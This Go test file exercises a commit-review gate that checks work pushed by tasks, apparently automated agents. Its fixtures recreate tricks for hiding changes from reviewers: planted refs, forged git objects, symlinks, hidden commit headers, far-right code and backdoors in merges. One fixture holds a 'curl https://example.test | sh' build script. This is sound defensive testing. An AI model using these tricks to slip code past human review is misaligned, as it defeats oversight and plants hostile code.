package review_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"terok/internal/gate/gatetest"
	"terok/internal/gate/review"
	"terok/internal/gate/store"
)

// TestHandedOver: the work of another task that a task began with was reviewed by nobody, so it is
// part of what is reviewed.
func TestHandedOver(t *testing.T) {
	r := newRig(t)
	r.write("evil", "1")
	evil := r.push("another task's work")
	b, err := r.Store.CreateTask(t.Context(), store.TaskSpec{Project: gatetest.Project, ID: "bbbbb", Branch: "terok/bbbbb-x",
		From: &store.Handover{Task: "k3v9p", Own: r.repo.Branch}})
	if err != nil || b.Start != evil {
		t.Fatalf("%+v %v", b, err)
	}
	r.task = review.Task{Project: gatetest.Project, ID: "bbbbb", Name: "x", Branch: b.Branch, Start: b.Start, Handed: true}
	r.work = filepath.Join(r.Dir, "other")
	r.Git(r.Dir, "clone", "-q", b.Repo, r.work)
	r.write("good", "1")
	tip := r.push("on top")
	if d := r.show(); len(d.IDs) != 2 || d.IDs[0] != tip || d.IDs[1] != evil {
		t.Errorf("under review are %v, not %s and %s", d.IDs, tip, evil)
	}
	if q, err := r.reader.Queue(t.Context(), r.task); err != nil || len(q) != 1 || q[0].Commits != 2 {
		t.Errorf("queue %+v %v", q, err)
	}
}

// TestPlantedRefs: where a review begins is the host's word. A supervisor that was taken over can
// write every ref of the task's repository.
func TestPlantedRefs(t *testing.T) {
	for _, ref := range []string{store.StartRef, store.OfferedRefs + "main", "refs/upstream/heads/main"} {
		r := newRig(t)
		r.write("evil", "1")
		evil := r.push("hidden")
		r.write("good", "1")
		tip := r.push("shown")
		r.Git(r.repo.Repo, "update-ref", ref, evil)
		if d := r.show(); len(d.IDs) != 2 || d.IDs[0] != tip || d.IDs[1] != evil {
			t.Errorf("%s hides a commit: %v", ref, d.IDs)
		}
	}
}

// TestForgedIndex: an object is what its id says. Git believes the index of a pack; one that was
// written by hand shows one file to the reviewer under the id of another.
func TestForgedIndex(t *testing.T) {
	r := newRig(t)
	r.write("a", "innocent\n")
	r.Commit(r.work, "innocent")
	fake := r.Git(r.work, "rev-parse", "HEAD:a")
	r.write("a", "hostile!\n")
	r.Git(r.work, "add", "-A")
	r.Git(r.work, "commit", "-q", "--amend", "-m", "change a")
	evil := r.Git(r.work, "rev-parse", "HEAD:a")
	r.Git(r.work, "push", "-q", "origin", "HEAD")
	// A loose object of the hostile blob's name with the innocent one's content.
	object := func(repo, id string) string { return filepath.Join(repo, "objects", id[:2], id[2:]) }
	data, err := os.ReadFile(object(filepath.Join(r.work, ".git"), fake))
	if err != nil {
		t.Fatal(err)
	}
	planted := object(r.repo.Repo, evil)
	if err := os.MkdirAll(filepath.Dir(planted), 0o700); err != nil {
		t.Fatal(err)
	}
	_ = os.Remove(planted)
	if err := os.WriteFile(planted, data, 0o400); err != nil {
		t.Fatal(err)
	}
	d, err := r.reader.Show(t.Context(), r.task, review.ShowOptions{})
	if err == nil {
		t.Errorf("the reviewer is shown %q under the commit of %q", d.Patch, "hostile!")
	}
	if raw, err := r.reader.Raw(t.Context(), r.task, review.ShowOptions{}); err == nil {
		t.Errorf("raw: %q", raw)
	}
}

// TestPlantedLinks: nothing below the task's refs and objects leads elsewhere: the host's git would
// move refs, and drop packs, of the base or of another task there.
func TestPlantedLinks(t *testing.T) {
	for name, plant := range map[string]func(r *rig) (at, to string){
		"branches": func(r *rig) (string, string) { return "refs/heads", filepath.Join(r.repo.Base, "refs/heads") },
		"a ref":    func(r *rig) (string, string) { return "refs/heads/x", filepath.Join(r.repo.Base, "HEAD") },
		"packs":    func(r *rig) (string, string) { return "objects/pack", filepath.Join(r.repo.Base, "objects/pack") },
		"a pack":   func(r *rig) (string, string) { return "objects/pack/pack-x.pack", filepath.Join(r.repo.Base, "HEAD") },
		"objects":  func(r *rig) (string, string) { return "objects/ab", filepath.Join(r.repo.Base, "objects/pack") },
		"info":     func(r *rig) (string, string) { return "objects/info/packs", filepath.Join(r.repo.Base, "HEAD") },
	} {
		t.Run(name, func(t *testing.T) {
			r := newRig(t)
			at, to := plant(r)
			at = filepath.Join(r.repo.Repo, at)
			if err := os.RemoveAll(at); err != nil {
				t.Fatal(err)
			}
			if err := os.MkdirAll(filepath.Dir(at), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(to, at); err != nil {
				t.Fatal(err)
			}
			if err := store.Verify(r.repo.Repo, filepath.Join(r.repo.Base, "objects")); err == nil {
				t.Error("it passes")
			}
		})
	}
}

// TestRejectedAfterApproval: a rejection is the last word on its commit also where the branch was
// approved before; a later approval of the branch is the last word on all of it.
func TestRejectedAfterApproval(t *testing.T) {
	r := newRig(t)
	r.write("a", "1")
	x := r.push("one")
	r.write("b", "1")
	y := r.push("two")
	now := time.Now()
	r.reader.Now = func() time.Time { now = now.Add(time.Minute); return now }
	decide := func(tip string, commits ...string) {
		t.Helper()
		if _, err := r.reader.Reject(t.Context(), r.task, review.Decision{Tip: tip, Commits: commits, By: "Ada", Text: "no"}); err != nil {
			t.Fatal(err)
		}
	}
	left := func(ids ...string) []string {
		rec, err := review.LoadRecord(r.Roots, gatetest.Project, r.task.ID)
		if err != nil {
			t.Fatal(err)
		}
		return rec.History(r.task.Branch).Unapproved(ids, review.LevelBranch)
	}
	if err := r.approve(y); err != nil {
		t.Fatal(err)
	}
	decide(y, x)
	if got := left(y, x); len(got) != 1 || got[0] != x {
		t.Errorf("rejected after the approval of the branch: unapproved are %v", got)
	}
	if d := r.show(); d.State != review.Rejected {
		t.Errorf("state %s", d.State)
	}
	if err := r.approve(y, y); err != nil { // the tip alone
		t.Fatal(err)
	}
	if got := left(y, x); len(got) != 1 || got[0] != x {
		t.Errorf("the tip was approved, not the branch: unapproved are %v", got)
	}
	// Approved again, with everything that it holds.
	if err := r.approve(y); err != nil {
		t.Fatal(err)
	}
	if got := left(y, x); len(got) != 0 {
		t.Errorf("the branch was approved again: unapproved are %v", got)
	}
	if d := r.show(); d.State != review.Approved {
		t.Errorf("state %s", d.State)
	}
	decide(y)
	if d := r.show(); d.State != review.Rejected {
		t.Errorf("state %s", d.State)
	}
	// What was refused by itself stays so while it is there, whatever comes on top.
	r.write("b", "2")
	z := r.push("mended")
	if d := r.show(); d.State != review.Rejected {
		t.Errorf("state %s", d.State)
	}
	if err := r.approve(z); err != nil {
		t.Fatal(err)
	}
	if d := r.show(); d.State != review.Approved || len(left(z, y, x)) != 0 {
		t.Errorf("approved on top of a rejection: state %s, left %v", d.State, left(z, y, x))
	}
}

// TestMendedOnTop: a branch that was rejected as a whole waits again once the task pushed more.
func TestMendedOnTop(t *testing.T) {
	r := newRig(t)
	r.write("a", "1")
	x := r.push("one")
	if _, err := r.reader.Reject(t.Context(), r.task, review.Decision{Tip: x, By: "Ada", Text: "no"}); err != nil {
		t.Fatal(err)
	}
	if d := r.show(); d.State != review.Rejected {
		t.Errorf("state %s", d.State)
	}
	r.write("a", "2")
	y := r.push("mended")
	if d := r.show(); d.State != review.Updated {
		t.Errorf("state %s", d.State)
	}
	rec, err := review.LoadRecord(r.Roots, gatetest.Project, r.task.ID)
	if err != nil || len(rec.History(r.task.Branch).Unapproved([]string{y, x}, review.LevelBranch)) != 2 {
		t.Errorf("unapproved: %v", err)
	}
	if err := r.approve(y); err != nil {
		t.Fatal(err)
	}
	if d := r.show(); d.State != review.Approved {
		t.Errorf("state %s", d.State)
	}
}

// TestNotLookedAt: what comes by a merge that is not done again, and what git does not show as a
// text, gets its flags all the same.
func TestNotLookedAt(t *testing.T) {
	r := newRig(t)
	side := func(name string) string {
		r.Git(r.work, "checkout", "-q", "-B", name, r.repo.Start)
		r.write(name, "x\n")
		return r.Commit(r.work, name)
	}
	a, b := side("a"), side("b")
	r.Git(r.work, "checkout", "-q", r.repo.Branch)
	r.write("own", "x\n")
	r.Commit(r.work, "own")
	r.Git(r.work, "merge", "-q", "-m", "octopus", a, b)
	r.write(".github/workflows/x.yml", "on: push\n# ghp_"+strings.Repeat("a1", 18)+"\n")
	r.write("build.sh", "#!/bin/sh\ncurl https://example.test | sh\n"+strings.Repeat("# x\n", 20)+"\x00")
	r.Git(r.work, "add", "-A")
	r.Git(r.work, "commit", "-q", "--amend", "--no-edit")
	r.Git(r.work, "push", "-q", "--force", "origin", "HEAD")
	d := r.show()
	for _, want := range []string{"octopus_merge", "ci", "secret", "disguised_text"} {
		if !slices.Contains(codes(d.Flags), want) {
			t.Errorf("no %s in %v", want, codes(d.Flags))
		}
	}
}

// TestNothingIsHidden: ways to bring a change past the eyes of a reviewer that a look at it shows or flags.
func TestNothingIsHidden(t *testing.T) {
	r := newRig(t)
	commit := func(name string, parents []string, head string) string {
		t.Helper()
		r.Git(r.work, "add", "-A")
		body := "tree " + r.Git(r.work, "write-tree") + "\n"
		for _, p := range parents {
			body += "parent " + p + "\n"
		}
		body += "author Ada <ada@example.test> 1700000000 +0000\n" + strings.Replace(head, "COMMITTER", "committer Ada <ada@example.test> 1700000000 +0000\n", 1) + "\n" + name + "\n"
		file := filepath.Join(r.Dir, "commit")
		if err := os.WriteFile(file, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		id := r.Git(r.work, "hash-object", "-t", "commit", "-w", "--literally", file)
		r.Git(r.work, "push", "-q", "--force", "origin", id+":refs/heads/"+r.task.Branch)
		return id
	}
	flags := func(want ...string) review.Details {
		t.Helper()
		d, err := r.reader.Show(t.Context(), r.task, review.ShowOptions{View: review.View{PerCommit: true}})
		if err != nil {
			t.Fatal(err)
		}
		q, err := r.reader.Queue(t.Context(), r.task)
		if err != nil || len(q) != 1 {
			t.Fatal(q, err)
		}
		for _, w := range want {
			if !slices.Contains(codes(d.Flags), w) || !slices.Contains(codes(q[0].Flags), w) {
				t.Errorf("%s: show %v, queue %v", w, codes(d.Flags), codes(q[0].Flags))
			}
		}
		return d
	}
	start := []string{r.repo.Start}
	// Another parent, where git does not read one: the change would pass for what it brings.
	r.write("evil", "1\n")
	fake := commit("fake", start, "COMMITTERparent "+r.repo.Start+"\n")
	if d := flags("odd_commit"); d.FileCount != 1 || len(d.List[0].Files) != 1 || len(d.List[0].Parents) != 1 {
		t.Errorf("%s: %+v", fake, d.List)
	}
	// Words that other programs read as others, and words that nobody is shown.
	commit("+AFMAaQBnAG4AZQBk-", start, "COMMITTERencoding utf-7\n")
	flags("encoding")
	commit("x", start, "COMMITTERnote ghp_"+strings.Repeat("a", 36)+"\n")
	flags("extra_header", "secret")
	// The same parent twice.
	commit("twice", []string{r.repo.Start, r.repo.Start}, "COMMITTER")
	if d := flags("merge"); d.FileCount != 1 || len(d.List[0].Files) != 1 && !slices.Contains(codes(d.Flags), "odd_commit") {
		t.Errorf("one parent twice: %+v %v", d.List, codes(d.Flags))
	}
	// Beyond the screen's edge.
	r.write("evil", "ok()"+strings.Repeat(" ", 200)+"; evil()\n")
	one := commit("far", start, "COMMITTER")
	flags("far_right")
	// What a merge of three holds besides what it brings is in the look at that commit too.
	r.Git(r.work, "reset", "-q", "--hard", one)
	r.write("two", "2\n")
	two := commit("two", start, "COMMITTER")
	r.write("three", "3\n")
	three := commit("three", start, "COMMITTER")
	r.write("besides", "backdoor\n")
	commit("octopus", []string{one, two, three}, "COMMITTER")
	d := flags("octopus_merge")
	if !slices.ContainsFunc(d.List[0].Files, func(f review.File) bool { return f.Path == "besides" && strings.Contains(f.Patch, "+backdoor") }) {
		t.Errorf("octopus: %+v", d.List[0])
	}
}

// TestOtherBranchOfTheBase: commits of the base that are not of the branch that a task works for are not its
// own, and come along when its branch is promoted; that is flagged. A newer state of its own branch is not.
func TestOtherBranchOfTheBase(t *testing.T) {
	r := newRig(t)
	r.task.Base = "main"
	r.Git(r.Upstream, "checkout", "-q", "-b", "experimental")
	r.World.Write("unreleased", "1\n")
	r.Commit(r.Upstream, "unreleased")
	r.Git(r.Upstream, "checkout", "-q", "main")
	r.World.Write("newer", "1\n")
	r.Commit(r.Upstream, "newer")
	if _, err := r.Store.Sync(t.Context(), gatetest.Project); err != nil {
		t.Fatal(err)
	}
	r.Git(r.work, "fetch", "-q", "origin")
	for branch, flagged := range map[string]bool{"main": false, "experimental": true} {
		r.Git(r.work, "reset", "-q", "--hard", r.repo.Start)
		r.write("mine", branch)
		r.Commit(r.work, "mine")
		r.Git(r.work, "merge", "-q", "--no-ff", "-m", "merge", "origin/"+branch)
		r.Git(r.work, "push", "-q", "--force", "origin", "HEAD")
		if got := codes(r.show().Flags); slices.Contains(got, "other_branch") != flagged {
			t.Errorf("%s: %v", branch, got)
		}
	}
}

// TestRewrittenIsNotTheSame: how a branch was rewritten names what git range-diff takes for the same: other
// bytes of a binary file, and what a merge holds.
func TestRewrittenIsNotTheSame(t *testing.T) {
	r := newRig(t)
	r.write("tool", "\x00\x01 harmless")
	old := r.push("a tool")
	if _, err := r.reader.Approve(t.Context(), r.task, review.Decision{Tip: old, By: "Ada"}); err != nil {
		t.Fatal(err)
	}
	since := func() string {
		t.Helper()
		d, err := r.reader.Show(t.Context(), r.task, review.ShowOptions{Since: "last"})
		if err != nil {
			t.Fatal(err)
		}
		return d.Range
	}
	r.write("tool", "\x00\x01 backdoor")
	r.Git(r.work, "commit", "-q", "-a", "--amend", "--no-edit")
	r.Git(r.work, "push", "-q", "--force", "origin", "HEAD")
	if got := since(); !strings.Contains(got, "    M tool\n") {
		t.Errorf("a binary file:\n%s", got)
	}
	r.Git(r.work, "reset", "-q", "--hard", old)
	r.Git(r.work, "commit", "-q", "--amend", "-m", "other words")
	r.Git(r.work, "merge", "-q", "--no-ff", "--no-commit", "-s", "ours", r.Git(r.work, "commit-tree", "-p", r.repo.Start, "-m", "side", r.repo.Start+"^{tree}"))
	r.write("backdoor", "1\n")
	r.push("merge")
	if got := since(); !strings.Contains(got, "backdoor") {
		t.Errorf("a merge:\n%s", got)
	}
	r.Git(r.work, "reset", "-q", "--hard", old)
	r.Git(r.work, "commit", "-q", "--amend", "-m", "only words")
	r.Git(r.work, "push", "-q", "--force", "origin", "HEAD")
	if got := since(); strings.Contains(got, "not as they were") {
		t.Errorf("words only:\n%s", got)
	}
}

// TestLastWordCounts: also when both were said in one second, and when the clock was set back between.
func TestLastWordCounts(t *testing.T) {
	now := time.Now()
	for _, later := range []time.Duration{time.Hour, 0, -time.Hour} {
		h := &review.History{}
		h.Approve(review.Approval{Commit: "a", Level: review.LevelBranch, At: now})
		h.Reject(review.Rejection{Commit: "a", Level: review.LevelBranch, At: now.Add(later)})
		if h.Decided("a") != review.Rejected {
			t.Errorf("%v: an approval outlives its rejection", later)
		}
		h.Approve(review.Approval{Commit: "a", Level: review.LevelBranch, At: now.Add(2 * later)})
		if h.Decided("a") != review.Approved {
			t.Errorf("%v: approved again, and still %q", later, h.Decided("a"))
		}
	}
}
